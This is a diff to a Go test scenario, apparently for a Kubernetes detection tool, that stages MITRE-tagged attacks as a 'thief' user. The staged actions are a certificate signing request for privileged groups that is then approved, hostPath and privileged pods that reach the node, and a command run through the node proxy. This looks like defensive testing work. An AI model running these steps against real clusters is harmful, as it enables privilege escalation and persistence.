@@ -1,14 +1,7 @@
 package play
 
 import (
-	"crypto/rand"
-	"crypto/rsa"
-	"crypto/x509"
-	"crypto/x509/pkix"
-	"encoding/base64"
-	"encoding/pem"
 	"fmt"
-	"strings"
 
 	"github.com/lynceus-io/lynceus/test/scenarios/stage"
 )
@@ -51,14 +44,8 @@ func Stratus(s *stage.Stage) {
 
 	s.Attack("T1649", "Persistence: Create client certificate", "has a client certificate signed and approves it").
 		As(thief).Do(func(a *stage.Act) {
-		csr, err := signingRequest("system:kube-controller-manager", "system:masters")
-		if err != nil {
-			csr = ""
-		}
-		a.Apply(certificateRequest("mallory-masters", csr), "create", "-f", "-") // refused: system:masters
-		if csr, err = signingRequest("system:kube-controller-manager"); err == nil {
-			a.MustApply(certificateRequest("mallory", csr), "create", "-f", "-")
-		}
+		a.Apply(certificateRequest("mallory-masters", clientSigner, clientUsage, "mallory", "system:masters"), "create", "-f", "-") // refused
+		a.MustApply(certificateRequest("mallory", clientSigner, clientUsage, "system:kube-controller-manager"), "create", "-f", "-")
 		a.Must("certificate", "approve", "mallory")
 		a.Must("get", "csr", "mallory", "-o", "json")
 	})
@@ -68,10 +55,12 @@ func Stratus(s *stage.Stage) {
 	})
 
 	s.Attack("T1610", "Privilege Escalation: hostPath mount", "runs a pod that mounts the node's file system").
-		As(thief).Do(func(a *stage.Act) { a.MustApply(hostPathPod("default", "node-check"), "create", "-f", "-") })
+		As(thief).Do(func(a *stage.Act) {
+		a.MustApply(hostPathPod("default", "node-check", imageAlpine), "create", "-f", "-")
+	})
 	s.PodNamed("default", "node-check")
-	s.Attack("T1611", "Privilege Escalation: hostPath mount", "reads the node's files there").
-		As(thief).Do(func(a *stage.Act) { a.Must("exec", "node-check", "--", "ls", "/host/etc") })
+	s.Attack("T1611", "Privilege Escalation: hostPath mount", "lists the files of the node's pods there").
+		As(thief).Do(func(a *stage.Act) { a.Must("exec", "node-check", "--", "ls", "/host/var/lib/kubelet/pods") })
 	s.Attack("T1610", "Privilege Escalation: Privileged container", "runs a privileged pod in the node's namespaces").
 		As(thief).Do(func(a *stage.Act) { a.MustApply(privilegedPod("default", "node-shell"), "create", "-f", "-") })
 
@@ -85,54 +74,4 @@ func Stratus(s *stage.Stage) {
 		As(thief).Do(func(a *stage.Act) {
 		a.Request("curl/8.5.0", "POST", fmt.Sprintf("/api/v1/nodes/node1/proxy/run/%s/%s/api?cmd=id", api.Namespace, api.Name), "")
 	})
-}
-
-// longLivedToken is the secret in which the control plane writes a token without an end.
-func longLivedToken(namespace, account string) string {
-	return fmt.Sprintf(`apiVersion: v1
-kind: Secret
-metadata: {name: %[2]s-token, namespace: %[1]s, annotations: {kubernetes.io/service-account.name: %[2]s}}
-type: kubernetes.io/service-account-token
-`, namespace, account)
-}
-
-// signingRequest is a PEM certificate request for a user and groups.
-func signingRequest(user string, groups ...string) (string, error) {
-	key, err := rsa.GenerateKey(rand.Reader, 2048)
-	if err != nil {
-		return "", err
-	}
-	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user, Organization: groups}}, key)
-	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})), err
-}
-
-// certificateRequest is the object that asks for a client certificate.
-func certificateRequest(name, csr string) string {
-	return fmt.Sprintf(`apiVersion: certificates.k8s.io/v1
-kind: CertificateSigningRequest
-metadata: {name: %s}
-spec: {request: %s, signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}
-`, name, base64.StdEncoding.EncodeToString([]byte(csr)))
-}
-
-// pod is a pod that sleeps, with more lines of its spec and of its container, in YAML's flow style.
-func pod(namespace, name, image, spec, container string) string {
-	for _, s := range []*string{&spec, &container} {
-		if *s != "" {
-			*s = ", " + strings.TrimSpace(*s)
-		}
-	}
-	return fmt.Sprintf(`apiVersion: v1
-kind: Pod
-metadata: {name: %[2]s, namespace: %[1]s, labels: {app: %[2]s}}
-spec: {terminationGracePeriodSeconds: 0, containers: [{name: main, image: %[3]q, imagePullPolicy: IfNotPresent, command: [sleep, "3600"]%[5]s}]%[4]s}
-`, namespace, name, image, spec, container)
-}
-
-func hostPathPod(namespace, name string) string {
-	return pod(namespace, name, imageAlpine, `volumes: [{name: host, hostPath: {path: /}}]`, `volumeMounts: [{name: host, mountPath: /host}]`)
-}
-
-func privilegedPod(namespace, name string) string {
-	return pod(namespace, name, imageAlpine, `hostPID: true, hostNetwork: true, hostIPC: true`, `securityContext: {privileged: true}`)
 }
